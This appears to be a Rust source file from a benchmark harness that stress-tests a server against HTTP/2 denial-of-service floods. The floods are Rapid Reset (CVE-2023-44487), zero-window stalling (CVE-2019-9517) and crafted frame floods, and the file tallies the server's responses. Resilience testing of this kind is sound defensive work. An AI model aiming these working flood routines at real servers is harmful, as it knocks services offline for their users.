@@ -1,0 +1,142 @@
+//! Floods over HTTP/2: by the client of the `h2` crate where it can flood, otherwise by frames of
+//! our own.
+
+use std::net::SocketAddr;
+use std::time::Duration;
+
+use anyhow::Result;
+use bytes::Bytes;
+use h2::client::{Builder, Connection, ResponseFuture, SendRequest};
+use h2::{Reason, SendStream};
+use roamd_bench::TlsClients;
+use tokio::io::{AsyncRead, AsyncWrite};
+use tokio::net::TcpStream;
+use tokio::task::yield_now;
+use tokio::time::sleep;
+
+use super::frames::{self, FrameFlood};
+use super::tally::{Outcome, Tally};
+
+/// A large document that needs no token.
+const DOCUMENT: &str = "/Schemas/Resources.xsd";
+
+/// Requests at once: ten times the streams that a connection may have. The client opens as many as
+/// the server allows, and the others when it can.
+const REQUESTS: usize = 320;
+
+/// What floods a connection.
+#[derive(Clone, Copy, PartialEq, Eq)]
+pub(super) enum Flood {
+    /// Requests that are reset at once (CVE-2023-44487).
+    RapidReset,
+    /// Requests whose responses are not read: the window is closed (CVE-2019-9517).
+    ZeroWindow,
+    /// Frames that the client would not send.
+    Frames(FrameFlood),
+}
+
+impl Flood {
+    /// Floods over a connection until the server ends it. Counts what the server does, and pauses
+    /// after each write.
+    ///
+    /// # Errors
+    /// If the TLS handshake fails.
+    pub(super) async fn run(
+        self,
+        stream: TcpStream,
+        server: SocketAddr,
+        tls: &TlsClients,
+        tally: &Tally,
+        pause: Duration,
+    ) -> Result<()> {
+        let stream = tls.connect(stream, server).await?;
+        let open = tally.open();
+        let ended = match self {
+            Self::RapidReset => reset_requests(stream, tally, pause).await?,
+            Self::ZeroWindow => leave_responses(stream, tally).await?,
+            Self::Frames(flood) => frames::send(flood, stream, tally, pause).await,
+        };
+        open.ended(ended);
+        Ok(())
+    }
+}
+
+/// Opens and resets requests with a client that obeys the protocol.
+async fn reset_requests(
+    stream: impl AsyncRead + AsyncWrite + Unpin + Send + 'static,
+    tally: &Tally,
+    pause: Duration,
+) -> Result<Outcome> {
+    let (sender, connection) = Builder::new().handshake(stream).await?;
+    let act = async {
+        let mut sender = sender;
+        loop {
+            for _ in 0..REQUESTS {
+                let (_, mut stream, next) = request(sender).await?;
+                sender = next;
+                // The connection sends the request before its reset.
+                yield_now().await;
+                stream.send_reset(Reason::CANCEL);
+                tally.act(1);
+            }
+            sleep(pause).await;
+        }
+    };
+    end_of(connection, act).await
+}
+
+/// Sends requests and reads no response, with a client that obeys the protocol.
+async fn leave_responses(
+    stream: impl AsyncRead + AsyncWrite + Unpin + Send + 'static,
+    tally: &Tally,
+) -> Result<Outcome> {
+    let closed = Builder::new().initial_window_size(0).handshake(stream);
+    let (sender, connection) = closed.await?;
+    let act = async {
+        let mut sender = sender;
+        let mut unread = Vec::new();
+        for _ in 0..REQUESTS {
+            let (response, _, next) = request(sender).await?;
+            sender = next;
+            tally.act(1);
+            let head = response.await?;
+            tally.count(Outcome::Status(head.status().as_u16()));
+            unread.push(head);
+        }
+        std::future::pending().await
+    };
+    end_of(connection, act).await
+}
+
+/// Sends a request as soon as the server allows another one.
+async fn request(
+    sender: SendRequest<Bytes>,
+) -> Result<(ResponseFuture, SendStream<Bytes>, SendRequest<Bytes>), h2::Error> {
+    let mut sender = sender.ready().await?;
+    let uri = format!("https://localhost{DOCUMENT}");
+    let mut request = http::Request::new(());
+    *request.uri_mut() = uri.parse().map_err(|_| Reason::INTERNAL_ERROR)?;
+    let (response, stream) = sender.send_request(request, true)?;
+    Ok((response, stream, sender))
+}
+
+/// Acts on a connection until it ends, and returns how.
+async fn end_of<S>(
+    connection: Connection<S, Bytes>,
+    act: impl Future<Output = Result<(), h2::Error>>,
+) -> Result<Outcome>
+where
+    S: AsyncRead + AsyncWrite + Unpin + Send + 'static,
+{
+    let mut connection = tokio::spawn(connection);
+    tokio::select! {
+        ended = &mut connection => Ok(outcome(ended?)),
+        _failed = act => Ok(outcome(connection.await?)),
+    }
+}
+
+fn outcome(ended: Result<(), h2::Error>) -> Outcome {
+    let reason = ended.err().filter(h2::Error::is_go_away);
+    let reason = reason.and_then(|error| error.reason());
+    reason.map_or(Outcome::Closed, |reason| Outcome::GoAway(reason.into()))
+}
